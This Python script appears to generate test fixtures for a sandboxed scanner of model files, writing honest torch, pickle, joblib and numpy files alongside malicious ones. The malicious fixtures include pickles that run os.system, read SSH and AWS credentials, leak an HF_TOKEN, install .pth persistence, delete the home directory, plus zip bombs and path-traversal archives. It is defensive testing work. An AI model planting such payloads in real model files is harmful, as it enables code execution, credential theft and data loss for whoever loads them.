"""Writes the files that LoaderSpecs loads in a sandbox: honest ones of every format, and attacks. Writing runs nothing."""

import builtins
import bz2
import collections
import gzip
import io
import lzma
import os
import pathlib
import pickle
import sys
import tarfile
import tempfile
import types
import zipfile

import cloudpickle
import dill
import joblib
import lz4.frame
import numpy
import pandas
import py7zr
import torch
import zstandard
from sklearn.ensemble import RandomForestClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

torch.manual_seed(0)
random = numpy.random.default_rng(0)


class Call:
    """Pickles as a call of ``function(*arguments)``."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


SYSTEM = Call(os.system, "id")


def written(write):
    file = io.BytesIO()
    write(file)
    return file.getvalue()


def zipped(members, base=b""):
    file = io.BytesIO(base)
    with zipfile.ZipFile(file, "a") as archive:
        for name, data in members:
            archive.writestr(name, data)
    return file.getvalue()


def tarred(members, mode="w:gz"):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode=mode) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def torch_bytes(value, **options):
    return written(lambda file: torch.save(value, file, **options))


def module_of_an_absent_package():
    for name in ("absent", "absent.models"):
        sys.modules[name] = types.ModuleType(name)

    class Detector(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.layer, self.names = torch.nn.Conv2d(3, 4, 3), ["cat", "dog"]

    Detector.__module__, Detector.__qualname__ = "absent.models", "Detector"
    sys.modules["absent.models"].Detector = Detector
    return {"model": Detector(), "epoch": 3}


def honest():
    value = {"weights": numpy.arange(6.0), "names": ["a", ("b", 1)], "set": {1, 2}}
    labels = (random.random(40) > 0.5).astype(int)
    estimator = make_pipeline(StandardScaler(), RandomForestClassifier(5, random_state=0)).fit(random.random((40, 4)), labels)
    step = 3
    function = lambda number: number + step  # noqa: E731  (as notebooks have them)
    optimizer = torch.optim.Adam(torch.nn.Linear(3, 3).parameters())
    module = torch.nn.Sequential(torch.nn.Linear(4, 4), torch.nn.ReLU(), torch.nn.TransformerEncoderLayer(8, 2))
    yield "torch-zip", torch_bytes({f"layer{number}": torch.randn(8, 8) for number in range(20)})
    yield "torch-legacy", torch_bytes({"layer": torch.randn(8)}, _use_new_zipfile_serialization=False)
    yield "torch-module", torch_bytes(module)
    yield "torch-absent-module", torch_bytes(module_of_an_absent_package())
    yield "torch-optimizer", torch_bytes({"optimizer": optimizer.state_dict(), "step": 1})
    yield "torchscript", written(lambda file: torch.jit.save(torch.jit.script(torch.nn.Linear(4, 4)), file))
    for protocol in range(6):
        yield f"pickle-{protocol}", pickle.dumps(value, protocol)
    yield "sklearn-pickle", pickle.dumps(estimator)
    yield "joblib", written(lambda file: joblib.dump(estimator, file))
    for method in ("zlib", "gzip", "bz2", "xz", "lzma"):
        yield f"joblib-{method}", written(lambda file: joblib.dump(estimator, file, compress=(method, 3)))
    yield "numpy", written(lambda file: numpy.save(file, value["weights"]))
    yield "numpy-objects", written(lambda file: numpy.save(file, numpy.array([{1: 2}, "x"], dtype=object), allow_pickle=True))
    yield "numpy-zip", written(lambda file: numpy.savez(file, a=value["weights"], b=numpy.array([1, {}], dtype=object)))
    yield "cloudpickle", cloudpickle.dumps({"function": function, "model": estimator})
    yield "dill", dill.dumps({"function": function, "model": estimator})
    yield "pandas", pickle.dumps(pandas.DataFrame({"a": [1, 2], "b": pandas.to_datetime(["2020-01-01", "2021-01-01"])}))
    yield "zip-of-pickle", zipped([("inner/model.pkl", pickle.dumps(value)), ("README.md", b"# text")])
    yield "torch-tar", tarred([(name, pickle.dumps(held, 2)) for name, held in (("sys_info", {"protocol_version": 1000}), ("pickle", {"step": 1}), ("tensors", 0), ("storages", 0))], "w")
    yield "tar-of-torch", tarred([("model.bin", torch_bytes({"a": torch.zeros(2)}))])


def executed(source):
    return pickle.dumps(Call(builtins.exec, f"try:\n  {source}\nexcept OSError: pass"), 2)


def attacks():
    good = torch_bytes({"a": torch.zeros(2)})
    bad = torch_bytes({"a": torch.zeros(2), "b": SYSTEM})
    array = numpy.empty(1, dtype=object)
    array[0] = SYSTEM
    yield "shell-torch-zip", bad
    yield "shell-torch-legacy", torch_bytes({"a": torch.zeros(2), "b": SYSTEM}, _use_new_zipfile_serialization=False)
    yield "shell-torch-tar", tarred([("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2)), ("pickle", pickle.dumps(SYSTEM, 2))], "w")
    yield "shell-joblib-array", written(lambda file: joblib.dump({"a": numpy.zeros(5), "b": SYSTEM}, file))
    yield "shell-joblib-xz", written(lambda file: joblib.dump(SYSTEM, file, compress=("xz", 3)))
    yield "shell-numpy", written(lambda file: numpy.save(file, array, allow_pickle=True))
    yield "shell-numpy-zip", written(lambda file: numpy.savez(file, x=array))
    yield "shell-protocol-0", b"cposix\nsystem\n(S'id'\ntR."
    yield "shell-inst", b"(S'id'\nios\nsystem\n."
    yield "shell-stacked", pickle.dumps([1]) + pickle.dumps(SYSTEM)
    yield "shell-behind-gap", pickle.dumps([1]) + bytes(100) + b"junk" + pickle.dumps(SYSTEM)
    yield "shell-behind-broken", b"\x80\x02cno_such\xff\xfe" + pickle.dumps(SYSTEM, 4)
    yield "shell-truncated", b"\x80\x04cposix\nsystem\nX\x02\x00\x00\x00id\x85R"
    yield "shell-nested", pickle.dumps(Call(pickle.loads, pickle.dumps(SYSTEM)))
    yield "shell-zip", zipped([("a/m.pkl", pickle.dumps(SYSTEM))])
    yield "shell-tar-gz", tarred([("../../m.bin", bad)])
    yield "shell-gzip", gzip.compress(pickle.dumps(SYSTEM))
    yield "shell-polyglot-pickle", pickle.dumps(SYSTEM) + good
    yield "shell-polyglot-zip", pickle.dumps([1]) + bad
    yield "shell-duplicate-member", zipped([("archive/data.pkl", pickle.dumps(SYSTEM))], good)
    yield "shell-behind-missing", b"cabsent.tools\nhelp\n(I1\ntR0cposix\nsystem\n(S'id'\ntR."
    yield "shell-at-exit", executed("import atexit, os; atexit.register(os.system, 'id')")
    yield "shell-in-finalizer", pickle.dumps(Call(builtins.exec, "import builtins, os\nclass X:\n  def __del__(self, run=os.system): run('id')\nbuiltins.kept = X()"), 2)
    yield "unknown-callable", b"cnt\nsystem\n(S'calc.exe'\ntR."
    yield "process-replaced", executed("import os; os.execv('/bin/echo', ['echo', 'hi'])")
    yield "program-started", executed("import subprocess; subprocess.call(['no-such-miner', '-o'])")
    yield "process-forked", executed("import os; os.fork() or os._exit(0)")
    yield "network-attempt-tcp6", executed("import socket; socket.socket(socket.AF_INET6).connect(('::1', 80))")
    yield "network-attempt-udp", executed("import socket; socket.socket(2, 2).sendto(b'x', ('127.0.0.1', 53))")
    yield "network-attempt-listen", executed("import socket; s = socket.socket(); s.bind(('127.0.0.1', 4545)); s.listen()")
    yield "network-attempt-name", executed("import socket; socket.getaddrinfo('example.org', 80)")
    yield "secret-read", executed("import os; open(os.path.expanduser('~/.aws/credentials')).read()")
    yield "secret-read-relative", executed("import os; os.chdir(os.path.expanduser('~/.ssh')); open('id_rsa').read()")
    yield "secret-read-environ", executed("open('/proc/self/environ').read()")
    yield "secret-probed", executed("import os; os.listdir(os.path.expanduser('~/.ssh'))")
    yield "canary-leaked", executed("import os, base64; print(base64.b64encode(('x' + os.environ['HF_TOKEN']).encode()).decode())")
    yield "account-list-read", executed("open('/etc/passwd').read()")
    yield "persistence-written", executed("open('/usr/lib/python3/dist-packages/x.pth', 'w')")
    yield "persistence-written-renamed", executed("import os; open('/tmp/a', 'w'); os.rename('/tmp/a', '/usr/lib/python3/dist-packages/a.pth')")
    yield "made-executable", executed("import os; open('/tmp/x', 'w'); os.chmod('/tmp/x', 0o755)")
    yield "file-deleted", executed("import os; os.remove(os.path.expanduser('~/.bashrc'))")
    yield "mass-deletion", executed("import os, shutil; shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)")
    yield "executable-memory", executed("import mmap; mmap.mmap(-1, 4096, prot=7)")
    yield "memory-file", executed("import os; os.memfd_create('x')")
    yield "process-tampering", executed("import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)")
    yield "process-renamed", executed("import ctypes; ctypes.CDLL(None).prctl(15, b'kworker', 0, 0, 0)")
    yield "privilege-attempt", executed("import os; os.setuid(0)")
    yield "processor-claimed", executed("import os; os.sched_setaffinity(0, {0})")
    yield "sandbox-probing", executed("open('/proc/version').read()")
    yield "delayed-work-sleep", executed("import time; time.sleep(3600)")
    yield "delayed-work-thread", executed("import threading, time; threading.Thread(target=lambda: time.sleep(50), daemon=True).start()")
    yield "delayed-work-timer", executed("import threading; threading.Timer(3600, print).start()")
    yield "delayed-work-alarm", executed("import signal; signal.signal(signal.SIGALRM, lambda *_: None); signal.alarm(1)")
    yield "loader-killed-exit", executed("raise SystemExit(0)")
    yield "loader-killed-at-once", executed("import os; os._exit(0)")
    yield "loader-killed-signal", executed("import os; os.kill(os.getpid(), 15)")
    yield "loader-crashed", executed("import ctypes; ctypes.string_at(0)")
    yield "waits-for-input", executed("input()")
    yield "tracer-tampering-marker", executed("import os; os.getpgid(0x5AFE)")
    yield "tracer-tampering-files", executed("open('/app/loader.py').read()")


def packed(data):
    """(how, bytes) for every wrapper around a file."""
    yield "zip", zipped([("m.pkl", data)])
    yield "zip-in-zip", zipped([("inner.zip", zipped([("m.pkl", data)]))])
    yield "zip-in-tar-gz", tarred([("inner.zip", zipped([("m.pkl", data)]))])
    for how in ("bz2", "xz"):
        yield f"tar-{how}", tarred([("m.pkl", data)], f"w:{how}")
    yield "7z", seven_zipped(data)
    yield "gz", gzip.compress(data)
    yield "bz2", bz2.compress(data)
    yield "xz", lzma.compress(data)
    yield "lz4", lz4.frame.compress(data)
    yield "zst", zstandard.ZstdCompressor().compress(data)


def seven_zipped(data):
    with tempfile.TemporaryDirectory() as folder:
        member, file = pathlib.Path(folder, "m.pkl"), io.BytesIO()
        member.write_bytes(data)
        with py7zr.SevenZipFile(file, "w") as archive:
            archive.write(member, "m.pkl")
        return file.getvalue()


SOURCE = """
import torch
from transformers import PreTrainedModel, PretrainedConfig
from datasets import GeneratorBasedBuilder
from .configuration_own import OwnConfig
#TOP
class OwnModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.layer = torch.nn.Linear(config.hidden_size, config.hidden_size)
        #INIT
class Own(GeneratorBasedBuilder):
    def _split_generators(self, manager):
        manager.download("https://example.org/data.csv")
        #SPLIT
"""


def wrapped():
    value = pickle.dumps({"weights": numpy.arange(6.0), "names": ["a"]})
    for how, data in packed(value):
        yield f"honest-{how}", data
    for how, data in packed(pickle.dumps(SYSTEM)):
        yield f"shell-{how}", data
    for how, data in packed(pickle.dumps([1]) + pickle.dumps(SYSTEM)):
        yield f"stacked-{how}", data
    yield "honest-source", SOURCE.encode()
    for place in ("TOP", "INIT", "SPLIT"):
        yield f"source-{place.lower()}", SOURCE.replace(f"#{place}", "import os; os.system('id')").encode()
    yield "unsupported-deep", deep(pickle.dumps(SYSTEM), 9)
    yield "unsupported-nested-bomb", zipped([(f"{index}.zip", bomb()) for index in range(3)])
    yield "unsupported-many", zipped([(f"{index}.txt", b"") for index in range(5000)])
    yield "terabyte-torch", terabyte()
    yield "terabyte-numpy", written(lambda file: numpy.lib.format.write_array_header_1_0(file, {"descr": "<f4", "fortran_order": False, "shape": (1 << 38,)})) + bytes(64)
    yield "honest-links", links()


def deep(data, depth):
    for _ in range(depth):
        data = zipped([("inner", data)])
    return data


def links():
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, kind, target in (("link", tarfile.SYMTYPE, "/etc/passwd"), ("hard", tarfile.LNKTYPE, "../../etc/shadow"), ("pipe", tarfile.FIFOTYPE, ""), ("null", tarfile.CHRTYPE, "")):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
        info = tarfile.TarInfo("../../home/user/.bashrc")
        data = pickle.dumps([1])
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def terabyte():
    class Pickler(pickle.Pickler):
        def persistent_id(self, value):
            return ("storage", torch.FloatStorage, "0", "cpu", 1 << 38) if value is STORAGE else None

    file = io.BytesIO()
    Pickler(file, 2).dump({"w": Call(torch._utils._rebuild_tensor_v2, STORAGE, 0, (1 << 38,), (1,), False, collections.OrderedDict())})
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as members:
        for name, data in (("data.pkl", file.getvalue()), ("data/0", bytes(64)), ("version", b"3\n")):
            members.writestr(f"archive/{name}", data)
    return archive.getvalue()


STORAGE = object()


def broken():
    yield "corrupt-empty-zip", torch_bytes({"a": torch.zeros(2)})[:200]
    yield "corrupt-pickle", pickle.dumps(list(range(1000)))[:50]
    yield "unsupported-empty", b""
    yield "unsupported-text", b"hello world\nthis is text\n"
    yield "unsupported-bomb", bomb()
    yield "load-failed-wrong-value", pickle.dumps(Call(int, "no number"), 2)


def bomb():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("big", "w") as member:
        for _ in range(300):
            member.write(bytes(1 << 20))
    return file.getvalue()


def main(folder):
    for kind in (honest, attacks, wrapped, broken):
        target = pathlib.Path(folder, kind.__name__)
        target.mkdir(parents=True)
        for name, data in kind():
            (target / name).write_bytes(data)


main(sys.argv[1])
